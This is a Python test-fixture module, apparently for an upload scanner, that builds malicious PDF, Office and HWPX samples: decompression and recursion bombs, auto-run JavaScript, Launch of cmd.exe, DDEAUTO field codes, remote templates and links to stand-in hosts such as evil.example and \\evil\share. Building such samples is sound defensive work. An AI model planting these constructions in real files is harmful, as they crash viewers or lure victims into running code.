"""Files made to break or to trick whoever opens them, written by hand in a few lines each."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Sequence

from tests.submissions.factories import a_pdf

CATALOG = "<</Type/Catalog/Pages 2 0 R>>"
PAGES = "<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 960 540]/Resources<<>>>>"


def pdf_of(parts: Sequence[str | bytes], *, trailer: str = "") -> bytes:
    """Objects 1, 2, … with their table; the first is the catalogue."""
    body, places = b"%PDF-1.7\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(body))
        text = part.encode("latin-1") if isinstance(part, str) else part
        body += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    size = len(parts) + 1
    end = (
        f"xref\n0 {size}\n0000000000 65535 f \n{table}"
        f"trailer<</Size {size}/Root 1 0 R{trailer}>>\nstartxref\n{len(body)}\n%%EOF"
    )
    return body + end.encode()


def stream(data: bytes, words: str = "") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (words.encode(), len(data), data)


def a_page_with(content: bytes, resources: str, *others: str | bytes) -> bytes:
    """One page that draws the content (object 4); `others` are objects 5, 6, …"""
    page = (
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 960 540]/Contents 4 0 R/Resources<<{resources}>>>>"
    )
    return pdf_of([CATALOG, PAGES, page, stream(content), *others])


def a_huge_page_box() -> bytes:
    return pdf_of([CATALOG, PAGES, PAGE.replace("960 540", "1e9 1e9")])


def a_huge_unit() -> bytes:
    return pdf_of([CATALOG, PAGES, PAGE.replace("/Resources", "/UserUnit 1e6/Resources")])


def a_deep_page_tree(depth: int = 20_000) -> bytes:
    nodes = [f"<</Type/Pages/Kids[{number + 3} 0 R]/Count 1>>" for number in range(depth)]
    return pdf_of([CATALOG, *nodes, PAGE])


def a_page_tree_in_a_circle() -> bytes:
    return pdf_of([CATALOG, "<</Type/Pages/Kids[2 0 R 2 0 R 3 0 R]/Count 3>>", PAGE])


def many_objects(count: int = 100_000) -> bytes:
    return pdf_of([CATALOG, PAGES, PAGE, *["<</A[1 2 3]>>"] * count])


def an_xref_table_in_a_circle() -> bytes:
    plain = pdf_of([CATALOG, PAGES, PAGE])
    place = plain.rindex(b"xref\n0 4")
    return plain.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % place)


def forms_that_draw_forms(levels: int = 12, times: int = 10) -> bytes:
    """10¹² drawings in a few kilobytes."""
    forms = [
        stream(b"/F Do " * times, f"/Type/XObject/Subtype/Form/BBox[0 0 960 540]"
               f"/Resources<</XObject<</F {number + 6} 0 R>>>>")
        for number in range(levels)
    ]  # fmt: skip
    last = stream(b"0 0 960 540 re f", "/Type/XObject/Subtype/Form/BBox[0 0 960 540]")
    return a_page_with(b"/F Do", "/XObject<</F 5 0 R>>", *forms, last)


def a_form_that_draws_itself() -> bytes:
    form = stream(
        b"/F Do /F Do",
        "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>",
    )
    return a_page_with(b"/F Do", "/XObject<</F 5 0 R>>", form)


def a_deep_array(depth: int = 200_000) -> bytes:
    return pdf_of([CATALOG, PAGES, PAGE, "[" * depth + "]" * depth])


def _image(words: str, data: bytes) -> bytes:
    return a_page_with(
        b"960 0 0 540 0 0 cm /I Do",
        "/XObject<</I 5 0 R>>",
        stream(data, f"/Type/XObject/Subtype/Image/BitsPerComponent 8{words}"),
    )


def a_picture_of_gigabytes(side: int = 60_000) -> bytes:
    """3.6 GB a colour, packed twice."""
    rows = zlib.compressobj(1)
    packed = b"".join(rows.compress(bytes(1 << 20)) for _ in range(400)) + rows.flush()
    size = f"/Width {side}/Height {side}/ColorSpace/DeviceRGB"
    return _image(f"{size}/Filter[/FlateDecode/FlateDecode]", zlib.compress(packed))


def a_content_of_gigabytes() -> bytes:
    packer = zlib.compressobj(1)
    piece = b"0 0 9 9 re f " * 80_000
    packed = b"".join(packer.compress(piece) for _ in range(1500)) + packer.flush()
    twice = zlib.compress(packed)
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 960 540]/Contents 4 0 R/Resources<<>>>>"
    content = stream(twice, "/Filter[/FlateDecode/FlateDecode]")
    return pdf_of([CATALOG, PAGES, page, content])


def a_jbig2_picture_of_gigabytes(side: int = 65_000) -> bytes:
    """A page segment that asks for the whole bitmap, and nothing in it."""
    page = struct.pack(">IBBBIIIIIBH", 0, 48, 0, 1, 19, side, side, 0, 0, 0, 0)
    size = f"/Width {side}/Height {side}/ColorSpace/DeviceGray"
    return _image(f"{size}/Filter/JBIG2Decode".replace("Component 8", "Component 1"), page)


def a_pattern_of_dust() -> bytes:
    """Tiles of a hundredth of a point over a large page."""
    tile = stream(
        b"0 0 .005 .005 re f",
        "/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 .01 .01]"
        "/XStep .01/YStep .01/Resources<<>>",
    )
    return a_page_with(b"/Pattern cs /P scn 0 0 960 540 re f", "/Pattern<</P 5 0 R>>", tile)


def layers_over_layers(count: int = 3000) -> bytes:
    """Transparency groups inside one another, each a picture of the whole page."""
    forms = [
        stream(b"/F Do", "/Type/XObject/Subtype/Form/BBox[0 0 960 540]/Group<</S/Transparency>>"
               f"/Resources<</XObject<</F {number + 6} 0 R>>>>")
        for number in range(count)
    ]  # fmt: skip
    last = stream(b"0 0 960 540 re f", "/Type/XObject/Subtype/Form/BBox[0 0 960 540]")
    return a_page_with(b"/F Do", "/XObject<</F 5 0 R>>", *forms, last)


def a_jpx_picture_of_gigabytes(side: int = 60_000) -> bytes:
    """The header of a JPEG 2000 codestream, and nothing in it."""
    size = struct.pack(">HIIIIIIIIH", 0, side, side, 0, 0, side, side, 0, 0, 3)
    size += b"\x07\x01\x01" * 3
    style = b"\x00\x00\x00\x01\x00\x05\x04\x04\x00\x01"
    codes = [
        b"\xff\x4f\xff\x51", struct.pack(">H", len(size) + 2), size,
        b"\xff\x52", struct.pack(">H", len(style) + 2), style,
        b"\xff\x5c\x00\x13\x40" + bytes(16), b"\xff\x90\x00\x0a\x00\x00", struct.pack(">I", 14),
        b"\x00\x01\xff\x93\xff\xd9",
    ]  # fmt: skip
    return _image(f"/Width {side}/Height {side}/Filter/JPXDecode", b"".join(codes))


def a_fax_picture_of_gigabytes(side: int = 200_000) -> bytes:
    size = f"/Width {side}/Height {side}/ColorSpace/DeviceGray/Filter/CCITTFaxDecode"
    words = f"{size}/DecodeParms<</K -1/Columns {side}/Rows {side}>>"
    return _image(words, bytes(64)).replace(b"BitsPerComponent 8", b"BitsPerComponent 1")


def object_streams(stream_words: str, inner: bytes) -> bytes:
    """The page lies in an object stream (object 4) with these words beside it."""
    plain = [
        b"1 0 obj\n%s\nendobj\n" % CATALOG.encode(),
        b"2 0 obj\n%s\nendobj\n" % PAGES.encode(),
        b"4 0 obj\n%s\nendobj\n"
        % stream(zlib.compress(inner), f"/Type/ObjStm{stream_words}/Filter/FlateDecode"),
    ]
    body, places = b"%PDF-1.7\n", []
    for thing in plain:
        places.append(len(body))
        body += thing
    start = len(body)
    rows = [(0, 0, 65535), (1, places[0], 0), (1, places[1], 0), (2, 4, 0), (1, places[2], 0),
            (1, start, 0)]  # fmt: skip
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    words = "/Type/XRef/Size 6/W[1 4 2]/Root 1 0 R"
    return body + b"5 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF" % (stream(table, words), start)


def an_object_stream_in_itself() -> bytes:
    """The stream says that it lies in itself, and goes on in itself."""
    return object_streams("/N 2/First 8/Extends 4 0 R", b"3 0 4 0 " + PAGE.encode())


def an_object_stream_of_billions() -> bytes:
    return object_streams("/N 2000000000/First 2000000000", b"3 0 " + PAGE.encode())


def an_object_stream_of_gigabytes() -> bytes:
    packer = zlib.compressobj(9)
    inner = b"".join(packer.compress(bytes(1 << 20)) for _ in range(400)) + packer.flush()
    return object_streams("/N 1/First 4/Filter[/FlateDecode/FlateDecode]", inner)


def a_deep_tree_of_names(depth: int = 50_000) -> bytes:
    nodes = [f"<</Kids[{number + 5} 0 R]>>" for number in range(depth)]
    catalog = "<</Type/Catalog/Pages 2 0 R/Names<</Dests 4 0 R>>>>"
    return pdf_of([catalog, PAGES, PAGE, *nodes, "<</Names[(a) 3 0 R]>>"])


def a_million_notes(count: int = 30_000) -> bytes:
    note = "<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/Contents(x)>>"
    return pdf_of(
        [CATALOG, PAGES, PAGE.replace("/Resources", f"/Annots[{note * count}]/Resources")]
    )


def an_outline_in_a_circle() -> bytes:
    catalog = "<</Type/Catalog/Pages 2 0 R/Outlines 4 0 R>>"
    return pdf_of(
        [catalog, PAGES, PAGE, "<</First 5 0 R/Last 5 0 R>>", "<</Next 5 0 R/First 5 0 R>>"]
    )


def a_shading_of_dust() -> bytes:
    function = "<</FunctionType 2/Domain[0 1]/C0[0]/C1[1]/N 1>>"
    deep = "<</FunctionType 3/Domain[0 1]/Functions[6 0 R 6 0 R]/Bounds[.5]/Encode[0 1 0 1]>>"
    shading = "<</ShadingType 1/ColorSpace/DeviceGray/Domain[0 1e9 0 1e9]/Function 6 0 R>>"
    return a_page_with(b"/S sh", "/Shading<</S 5 0 R>>", shading, deep, function)


HEAVY: dict[str, Callable[[], bytes]] = {
    made.__name__: made
    for made in (
        a_huge_page_box,
        a_huge_unit,
        a_deep_page_tree,
        a_page_tree_in_a_circle,
        many_objects,
        an_xref_table_in_a_circle,
        forms_that_draw_forms,
        a_form_that_draws_itself,
        a_deep_array,
        a_picture_of_gigabytes,
        a_content_of_gigabytes,
        a_jbig2_picture_of_gigabytes,
        a_jpx_picture_of_gigabytes,
        a_fax_picture_of_gigabytes,
        an_object_stream_in_itself,
        an_object_stream_of_billions,
        an_object_stream_of_gigabytes,
        a_deep_tree_of_names,
        a_million_notes,
        an_outline_in_a_circle,
        a_shading_of_dust,
        a_pattern_of_dust,
        layers_over_layers,
    )
}


def _catalog(words: str, *others: str | bytes) -> bytes:
    return pdf_of([f"<</Type/Catalog/Pages 2 0 R{words}>>", PAGES, PAGE, *others])


def script_in_a_packed_object() -> bytes:
    """The action lies in an object stream, found through a cross-reference stream."""
    inner = b"5 0 <</S/JavaScript/JS(app.alert\\(1\\))>>"
    objects = [
        b"1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>\nendobj\n",
        b"2 0 obj\n%s\nendobj\n" % PAGES.encode(),
        b"3 0 obj\n%s\nendobj\n" % PAGE.encode(),
        b"4 0 obj\n%s\nendobj\n"
        % stream(zlib.compress(inner), "/Type/ObjStm/N 1/First 4/Filter/FlateDecode"),
    ]
    body, places = b"%PDF-1.7\n", []
    for thing in objects:
        places.append(len(body))
        body += thing
    start = len(body)
    rows = [(0, 0, 65535), *[(1, place, 0) for place in places], (2, 4, 0), (1, start, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    words = "/Type/XRef/Size 7/W[1 4 2]/Root 1 0 R"
    return body + b"6 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF" % (stream(table, words), start)


def a_link(target: str) -> bytes:
    """A page with a link; target: a PDF string."""
    action = f"<</S/URI/URI{target}>>"
    note = f"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A{action}>>]"
    return pdf_of([CATALOG, PAGES, PAGE.replace("/Resources", f"{note}/Resources")])


SCRIPT = "<</S/JavaScript/JS(app.alert\\(1\\))>>"
FILE_INSIDE = stream(b"MZ\x90", "/Type/EmbeddedFile")
FILE_NAMED = "<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>"
DANGEROUS_PDFS: dict[str, tuple[str, bytes]] = {
    "script at opening": ("javascript", _catalog("/OpenAction 4 0 R", SCRIPT)),
    "script in coded letters": (
        "javascript",
        _catalog("/OpenAction 4 0 R", SCRIPT.replace("JavaScript", "J#61vaScr#69pt")),
    ),
    "script by name": (
        "javascript",
        _catalog("/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", SCRIPT),
    ),
    "script of a page": (
        "javascript",
        pdf_of([CATALOG, PAGES, PAGE.replace("/Resources", "/AA<</O 4 0 R>>/Resources"), SCRIPT]),
    ),
    "script of a field": (
        "javascript",
        pdf_of(
            [
                CATALOG,
                PAGES,
                PAGE.replace("/Resources", "/Annots[4 0 R]/Resources"),
                f"<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]/FT/Tx/T(a)/A{SCRIPT}>>",
            ]
        ),
    ),
    "script in a packed object": ("javascript", script_in_a_packed_object()),
    "a program is started": (
        "starts_programs",
        _catalog("/OpenAction<</S/Launch/F(cmd.exe)>>"),
    ),
    "a file inside": (
        "files_inside",
        _catalog("/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>", FILE_NAMED, FILE_INSIDE),
    ),
    "a file pinned to a page": (
        "files_inside",
        pdf_of(
            [
                CATALOG,
                PAGES,
                PAGE.replace(
                    "/Resources",
                    "/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 4 0 R>>]"
                    "/Resources",
                ),
                FILE_NAMED,
                FILE_INSIDE,
            ]
        ),
    ),
    "a portfolio": (
        "portfolio",
        _catalog(
            "/Collection<</View/D>>/Names<</EmbeddedFiles<</Names[(a.pdf) 4 0 R]>>>>",
            FILE_NAMED,
            FILE_INSIDE,
        ),
    ),
    "script deep in the tree of names": (
        "javascript",
        _catalog(
            "/Names<</JavaScript 4 0 R>>",
            "<</Kids[5 0 R]>>",
            "<</Kids[6 0 R]>>",
            "<</Names[(a) 7 0 R]>>",
            SCRIPT,
        ),
    ),
    "script in a chain of actions": (
        "javascript",
        _catalog("/OpenAction<</S/Named/N/NextPage/Next 4 0 R>>", SCRIPT),
    ),
    "script in hexadecimal": (
        "javascript",
        _catalog("/OpenAction<</S/JavaScript/JS<6170702E616C65727428312929>>>"),
    ),
    "script of an outline": (
        "javascript",
        _catalog("/Outlines 4 0 R", "<</First 5 0 R/Last 5 0 R>>", f"<</Title(a)/A{SCRIPT}>>"),
    ),
    "another file is opened": (
        "starts_programs",
        _catalog(r"/OpenAction<</S/GoToR/D[0/Fit]/F(\\\\evil\\share\\a.pdf)>>"),
    ),
    "a link that runs": ("starts_programs", a_link("(javascript:alert\\(1\\))")),
    "a link that runs, in hexadecimal": (
        "starts_programs",
        a_link(f"<{b'JavaScript:alert(1)'.hex()}>"),
    ),
    "a link to a file": ("starts_programs", a_link("(file:///c:/windows/a.exe)")),
    "a link that runs, in utf-16": (
        "starts_programs",
        a_link(f"<feff{'javascript:a'.encode('utf-16-be').hex()}>"),
    ),
    "a link that runs, with a tab in it": ("starts_programs", a_link(r"(java\tscript:a)")),
    "a link to another machine's folder": ("starts_programs", a_link(r"(\\\\evil\\share)")),
    "a link to another machine": ("starts_programs", a_link("(smb://evil/share)")),
    "where all links begin": ("starts_programs", _catalog("/URI<</Base(javascript:)>>")),
    "a thread of another file": (
        "starts_programs",
        _catalog(r"/OpenAction<</S/Thread/D 0/F(\\\\evil\\a.pdf)>>"),
    ),
    "a form that is sent": (
        "active_content",
        _catalog("/OpenAction<</S/SubmitForm/F(https://evil.example)>>"),
    ),
    "a film": (
        "active_content",
        pdf_of(
            [
                CATALOG,
                PAGES,
                PAGE.replace(
                    "/Resources",
                    "/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]/Resources",
                ),
            ]
        ),
    ),
    "a program that is a pdf too": ("not_a_pdf", b"MZ\x90\0" + pdf_of([CATALOG, PAGES, PAGE])),
    "a web page that is a pdf too": (
        "not_a_pdf",
        b"<html><script>1</script>" + pdf_of([CATALOG, PAGES, PAGE]),
    ),
    "a web page that is a pdf too, behind a mark": (
        "not_a_pdf",
        b"\xef\xbb\xbf\0<html><script>1</script>" + pdf_of([CATALOG, PAGES, PAGE]),
    ),
    "a form for one program, in parts": (
        "xfa_form",
        _catalog("/AcroForm<</XFA[(template) 4 0 R]/Fields[]>>", stream(b"<xdp/>")),
    ),
    "a form for one program": (
        "xfa_form",
        _catalog("/AcroForm<</XFA 4 0 R/Fields[]>>", stream(b"<xdp/>")),
    ),
}


def packed(parts: dict[str, bytes], folder: str = "word") -> bytes:
    """A document with these parts beside its text."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"{folder}/document.xml", "<w/>")
        for name, data in parts.items():
            archive.writestr(name, data)
    return made.getvalue()


def a_bomb_of_overlapping_parts(count: int = 60) -> bytes:
    """Every entry of the directory points at the same packed megabytes."""
    plain = packed({"word/media/a.xml": bytes(20 * 1024**2)})
    with zipfile.ZipFile(io.BytesIO(plain)) as archive:
        start = archive.start_dir
        entry_size = 46 + len("word/media/a.xml")
    entry = plain[plain.rindex(b"PK\x01\x02") :][:entry_size]
    directory = plain[start : plain.rindex(b"PK\x01\x02")]
    entries = b"".join(
        entry.replace(b"media/a.xml", b"media/%05d" % number + b".")[:entry_size]
        for number in range(count)
    )
    whole = directory + entries
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count + 1, count + 1, len(whole), start, 0)
    return plain[:start] + whole + end


DOS_STUB = b"MZ\x90" + bytes(60) + b"This program cannot be run in DOS mode.\r\n"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def outside(kind: str, target: str = "http://evil.example/a", mode: str = "External") -> bytes:
    """The relations of a part, one of which leads elsewhere."""
    return (
        f'<Relationships><Relationship Id="r1" Type="{RELATION}/{kind}" Target="{target}" '
        f'TargetMode="{mode}"/></Relationships>'
    ).encode()


def content_types(kind: str) -> dict[str, bytes]:
    types = f'<Types><Override PartName="/word/a.bin" ContentType="application/{kind}"/></Types>'
    return {"[Content_Types].xml": types.encode()}


def field_code(*runs: str) -> bytes:
    """A paragraph with a field whose code is cut into runs."""
    code = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return f'<w:document xmlns:w="w"><w:p>{code}</w:p></w:document>'.encode()


PROGRAM = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(99)
DANGEROUS_DOCUMENTS: dict[str, tuple[str, str, bytes]] = {
    "docx with macros": ("plan.docx", "macros", packed({"word/vbaProject.bin": b"x"})),
    "xlsx with macros": ("plan.xlsx", "macros", packed({"xl/vbaProject.bin": b"x"}, "xl")),
    "xlsx with old macros": ("a.xlsx", "macros", packed({"xl/macrosheets/s.xml": b"x"}, "xl")),
    "pptx with macros": ("plan.pptx", "macros", packed({"ppt/vbaProject.bin": b"x"}, "ppt")),
    "docx with a template elsewhere": (
        "plan.docx",
        "macros",
        packed({"word/_rels/settings.xml.rels": outside("attachedTemplate")}),
    ),
    "docx with a picture from elsewhere": (
        "plan.docx",
        "macros",
        packed({"word/_rels/document.xml.rels": outside("image")}),
    ),
    "docx whose relations are in utf-16": (
        "plan.docx",
        "macros",
        packed({"word/_rels/a.xml.rels": outside("frame").decode().encode("utf-16")}),
    ),
    "docx whose relations hide a word": (
        "plan.docx",
        "macros",
        packed({"word/_rels/a.xml.rels": outside("frame", mode="&#69;xternal")}),
    ),
    "pptx with an object elsewhere": (
        "plan.pptx",
        "macros",
        packed({"ppt/slides/_rels/slide1.xml.rels": outside("oleObject")}, "ppt"),
    ),
    "xlsx linked to another workbook": (
        "plan.xlsx",
        "macros",
        packed(
            {"xl/externalLinks/_rels/externalLink1.xml.rels": outside("externalLinkPath")}, "xl"
        ),
    ),
    "xlsx that asks a program": (
        "plan.xlsx",
        "macros",
        packed(
            {"xl/externalLinks/a.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'},
            "xl",
        ),
    ),
    "xlsx that fetches a page": (
        "plan.xlsx",
        "macros",
        packed(
            {"xl/connections.xml": b'<connections><c><webPr url="http://e"/></c></connections>'},
            "xl",
        ),
    ),
    "docx that asks a program": (
        "plan.docx",
        "macros",
        packed({"word/header1.xml": field_code(" DD", "EAUTO c:\\\\cmd ")}),
    ),
    "docx that includes a page": (
        "plan.docx",
        "macros",
        packed({"word/footer1.xml": field_code(' INCLUDETEXT "http://evil.example"')}),
    ),
    "docx with a link that runs": (
        "plan.docx",
        "macros",
        packed({"word/_rels/a.xml.rels": outside("hyperlink", "javascript:alert(1)")}),
    ),
    "pptx with a button that starts a program": (
        "plan.pptx",
        "macros",
        packed(
            {"ppt/slides/slide1.xml": b'<s><hlinkClick action="ppaction://program"/></s>'}, "ppt"
        ),
    ),
    "docx with macros under another name": (
        "plan.docx",
        "macros",
        packed(content_types("vnd.ms-office.vbaProject")),
    ),
    "docx with an active control": (
        "plan.docx",
        "macros",
        packed({"word/activeX/activeX1.bin": b"x"}),
    ),
    "pptx with a workbook with macros": (
        "plan.pptx",
        "macros",
        packed({"ppt/embeddings/a.xlsx": packed({"xl/vbaProject.bin": b"x"}, "xl")}, "ppt"),
    ),
    "pptx with a workbook that allows macros": (
        "plan.pptx",
        "macros",
        packed({"ppt/embeddings/a.xlsm": b"x"}, "ppt"),
    ),
    "docx in docx in docx without end": (
        "plan.docx",
        "zip_bomb",
        packed(
            {
                "word/embeddings/a.docx": packed(
                    {
                        "word/embeddings/a.docx": packed(
                            {
                                "word/embeddings/a.docx": packed(
                                    {"word/embeddings/a.docx": packed({})}
                                )
                            }
                        )
                    }
                )
            }
        ),
    ),
    "docx with an archive called a picture": (
        "plan.docx",
        "program_inside",
        packed({"word/media/image1.png": packed({})}),
    ),
    "docx with a program without a message": (
        "plan.docx",
        "program_inside",
        packed({"word/media/image1.png": PROGRAM}),
    ),
    "docx with a script in an object": (
        "plan.docx",
        "program_inside",
        packed({"word/embeddings/oleObject1.bin": b"\x02\0run.vbs\0c:\\a\\run.vbs\0\0"}),
    ),
    "hwpx with a program": (
        "plan.hwpx",
        "program_inside",
        packed({"BinData/run.exe": b"x"}, "Contents"),
    ),
    "docx with a program in an object": (
        "plan.docx",
        "program_inside",
        packed({"word/embeddings/oleObject1.bin": bytes(1 << 20) + DOS_STUB}),
    ),
    "docx with an archive": ("a.docx", "program_inside", packed({"word/a.zip": b"PK"})),
    "xlsx that unpacks to far more": (
        "plan.xlsx",
        "zip_bomb",
        packed({"xl/worksheets/sheet1.xml": bytes(60 * 1024**2)}, "xl"),
    ),
    "hwpx that unpacks to far more": (
        "plan.hwpx",
        "zip_bomb",
        packed({"Contents/section0.xml": bytes(60 * 1024**2)}, "Contents"),
    ),
    "docx whose parts overlap": ("plan.docx", "zip_bomb", a_bomb_of_overlapping_parts()),
    "docx cut short": ("plan.docx", "unknown_content", packed({})[:60]),
}


def a_picture_header(side: int) -> bytes:
    """A PNG that says how large it is, and holds nothing."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        check = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", check)

    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    parts = [chunk(b"IHDR", head), chunk(b"IDAT", zlib.compress(b"")), chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def an_ordinary_pdf() -> bytes:
    return a_pdf(2)
